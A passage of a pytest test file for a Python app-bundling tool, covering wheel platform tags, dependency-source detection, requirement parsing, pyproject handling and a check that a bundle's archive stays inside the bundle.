        (Target(glibc="2.17"), "cp311-cp311-manylinux_2_28_x86_64", False),
        (Target(glibc="2.28"), "cp311-cp311-manylinux_2_28_x86_64", True),
        (Target(arch="aarch64"), "cp311-cp311-manylinux2014_aarch64", True),
        (Target(arch="aarch64"), "cp311-cp311-manylinux2014_x86_64", False),
        (Target(python="3.12"), "cp312-cp312-manylinux_2_17_x86_64", True),
        (Target(python="3.12"), "cp311-cp311-manylinux_2_17_x86_64", False),
    ],
)
def test_supported_tags(target, tag, ok):
    interp, abi, plat = tag.split("-")
    assert (Tag(interp, abi, plat) in deps_mod.supported_tags(target)) is ok


@pytest.mark.parametrize(
    "glibc, platform",
    [
        ("2.36", "x86_64-manylinux_2_36"),
        ("2.30", "x86_64-manylinux_2_28"),
        ("2.28", "x86_64-manylinux_2_28"),
        ("2.17", "x86_64-manylinux_2_17"),
        ("2.41", "x86_64-manylinux_2_40"),
        ("2.27", "x86_64-manylinux_2_17"),
    ],
)
def test_uv_platform(glibc, platform):
    assert deps_mod.uv_platform(Target(glibc=glibc)) == platform
    assert deps_mod.uv_platform(Target(arch="aarch64", glibc=glibc)) == platform.replace("x86_64", "aarch64")


def test_check_covered(tmp_path):
    for name in (
        "six-1.16.0-py2.py3-none-any.whl",
        "numpy-2.0.0-cp311-cp311-manylinux_2_28_x86_64.whl",
        "Foo_Bar-1.0-cp311-abi3-manylinux2014_x86_64.whl",
        "not-a-wheel.whl",
    ):
        (tmp_path / name).write_bytes(b"")
    reqs = "six==1.16.0\nfoo-bar==1.0 ; python_version >= '3'\n# comment\n-e .\nunpinned>=1\n"
    deps_mod._check_covered(reqs, tmp_path, Target(glibc="2.17"))
    deps_mod._check_covered(reqs + "numpy==2.0.0\n", tmp_path, Target(glibc="2.28"))
    with pytest.raises(SgpfabError) as e:
        deps_mod._check_covered(reqs + "numpy==2.0.0\n", tmp_path, Target(glibc="2.17"))
    assert (
        str(e.value)
        == "no wheel of numpy==2.0.0 installs on target cp311-x86_64-glibc2.17 (arch x86_64, glibc 2.17, CPython 3.11)"
    )
    with pytest.raises(SgpfabError):
        deps_mod._check_covered("missing==1.0\n", tmp_path, Target())
    deps_mod._check_covered("six==1.16.0\n", tmp_path, Target(arch="aarch64"))  # pure: installs anywhere


def test_names():
    text = (
        "Django==5.0 ; python_version >= '3.10'\nsqlalchemy[asyncio]==2.0.30\n# comment\n  \n-r other.txt\n"
        "--index-url https://x\nZope.Interface>=6 # trailing\nmy_pkg @ https://example.com/my_pkg.whl\n"
        "-e .\n!!not a requirement\n"
    )
    assert deps_mod.names(text) == {"django", "sqlalchemy", "zope-interface", "my-pkg"}


def spec_with(**deps) -> AppSpec:
    return AppSpec.model_validate({"processes": {"web": {"app": "a:b"}}, "dependencies": deps})


def test_detect_source(tmp_path):
    (tmp_path / "requirements.txt").write_text("")
    assert deps_mod.detect_source(tmp_path, spec_with()) == "requirements"
    (tmp_path / "pyproject.toml").write_text("[project]\nname='x'\n")
    assert deps_mod.detect_source(tmp_path, spec_with()) == "requirements", "pyproject alone is not a uv project"
    (tmp_path / "uv.lock").write_text("")
    assert deps_mod.detect_source(tmp_path, spec_with()) == "uv"
    assert deps_mod.detect_source(tmp_path, spec_with(source="requirements")) == "requirements"
    with pytest.raises(InputError) as e:
        deps_mod.detect_source(tmp_path, spec_with(source="requirements", file="reqs/prod.txt"))
    assert "no reqs/prod.txt" in str(e.value)
    empty = tmp_path / "empty"
    empty.mkdir()
    with pytest.raises(InputError) as e:
        deps_mod.detect_source(empty, spec_with(source="uv"))
    assert "no pyproject.toml + uv.lock" in str(e.value)
    with pytest.raises(InputError) as e:
        deps_mod.detect_source(empty, spec_with())
    assert "no dependencies found" in str(e.value)


@pytest.mark.parametrize("example, source", [("sgp_api", "uv"), ("flask_tasks", "requirements"), ("django_blog", "uv")])
def test_detect_source_of_the_examples(example, source):
    src = Path(__file__).resolve().parents[2] / "examples" / example
    assert deps_mod.detect_source(src, spec_with()) == source


@pytest.mark.parametrize(
    "data, choice, expected",
    [
        ({"project": {}, "build-system": {}}, "auto", True),
        ({"project": {}}, "auto", False),
        ({"build-system": {}}, "auto", False),
        ({"project": {}, "build-system": {}, "tool": {"uv": {"package": False}}}, "auto", False),
        ({"project": {}, "tool": {"uv": {"package": True}}}, "auto", True),
        ({}, "yes", True),
        ({"project": {}, "build-system": {}}, "no", False),
    ],
)
def test_is_package(data, choice, expected):
    assert deps_mod.is_package(data, spec_with(install_project=choice)) is expected


@pytest.mark.parametrize("example, expected", [("sgp_api", True), ("django_blog", False)])
def test_is_package_of_the_examples(example, expected):
    """sgp_api has a build-system (installed so `sgp-api-admin` and migrations import it); the
    Django blog says tool.uv.package = false."""
    src = Path(__file__).resolve().parents[2] / "examples" / example
    assert deps_mod.is_package(deps_mod.pyproject(src), spec_with()) is expected


def test_pyproject_errors(tmp_path):
    assert deps_mod.pyproject(tmp_path) == {}
    (tmp_path / "pyproject.toml").write_text("[project\n")
    with pytest.raises(InputError) as e:
        deps_mod.pyproject(tmp_path)
    assert "is not valid TOML" in str(e.value)


def test_extras_are_known():
    assert EXTRAS == ("metadata.json", "CHANGELOG.md", "README.md", "schema.sql")


def test_the_archive_must_be_inside_the_bundle(copy):
    shutil.move(copy / "app-v1.0.0.tar.gz", copy.parent / "outside.tar.gz")
    resign(copy, manifest_edit=lambda m: m["archive"].update(name="../outside.tar.gz"))
    corrupt(copy, "archive")
